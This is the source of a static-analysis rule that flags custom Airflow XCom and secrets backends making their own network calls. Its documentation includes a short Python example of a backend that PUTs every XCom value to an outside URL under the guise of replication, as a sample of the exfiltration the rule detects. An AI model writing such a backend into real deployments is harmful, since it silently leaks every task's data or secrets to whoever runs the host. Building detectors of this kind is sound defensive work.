import { defineRule } from '../../src/engine/rule';
import { factsOf, shownCallee, type CallFact } from './_facts';
import { reachOfTarget } from './_local-calls';

/** Airflow extension points every task's data or every secret passes through. */
const EXTENSION_BASES = /\b(?:BaseXCom|BaseSecretsBackend)\b/;

export default defineRule({
  meta: {
    id: 'DG619',
    name: 'extension-point-sends-data',
    category: 'malicious',
    severity: 'high',
    message: 'the custom {what} `{cls}` sends data over the network itself (`{via}`): {why}',
    docs: {
      what:
        'Finds custom XCom backends (`BaseXCom` subclasses) and secrets backends (`BaseSecretsBackend` subclasses) that make network calls of their own — `requests`, `urllib`, `urllib3`, `httpx`, `http.client`, sockets — in their methods or in a function of the file their methods call (`serialize_value` calling `_replicate(key, payload)`, which PUTs it to a URL). Calls through Airflow hooks and cloud SDK clients (`S3Hook(...).load_bytes`, a `boto3` client), which go where a connection says, are not reported.',
      why:
        'Once configured (`[core] xcom_backend`, `[secrets] backend`), the class sees every XCom value of every task, or every connection and Variable the deployment reads, in every worker and scheduler. A "replication" or "audit" call to a URL inside it copies all of that to whoever runs the host, and it is installed by configuration, far from the DAG code reviewers read.',
      example:
        '```python\nclass S3XComBackend(BaseXCom):\n    @staticmethod\n    def serialize_value(value, **kw):\n        payload = json.dumps(value).encode()\n        _http.request("PUT", f"{DR_INGEST}/{uuid4().hex}", body=payload)\n        return BaseXCom.serialize_value(value)\n```',
      useInstead: 'Store XComs through an Airflow hook bound to a connection the platform owns (`S3Hook(aws_conn_id=…)`), and replicate buckets with the storage service\'s own replication.',
    },
  },
  keywords: ['BaseXCom', 'BaseSecretsBackend'],
  onFile(ctx) {
    const facts = factsOf(ctx).calls;
    if (!facts.some((f) => f.kinds.has('network'))) return;
    for (const cls of ctx.root.descendantsOfType('class_definition')) {
      const bases = cls.childForFieldName('superclasses')?.text ?? '';
      const base = EXTENSION_BASES.exec(bases)?.[0];
      if (!base) continue;
      const what = base === 'BaseXCom' ? 'XCom backend' : 'secrets backend';
      const why = base === 'BaseXCom' ? "every task's XCom values pass through it" : 'every connection and Variable the deployment reads passes through it';
      const name = cls.childForFieldName('name')!.text;
      const own = (f: CallFact): boolean => f.kinds.has('network') && !f.client;
      const sends: CallFact[] = facts.filter((f) => own(f) && f.call.startIndex >= cls.startIndex && f.call.endIndex <= cls.endIndex);
      // … and functions of the file its methods call
      for (const id of cls.descendantsOfType('identifier')) {
        const call = id.parent;
        if (call?.type !== 'call' || call.childForFieldName('function')?.id !== id.id) continue;
        const r = reachOfTarget(ctx, id);
        if (r && own(r)) sends.push(r);
      }
      const seen = new Set<number>();
      for (const f of sends) {
        if (seen.has(f.call.id)) continue;
        seen.add(f.call.id);
        ctx.report(f.call, { what, cls: name, via: shownCallee(f), why });
      }
    }
  },
});

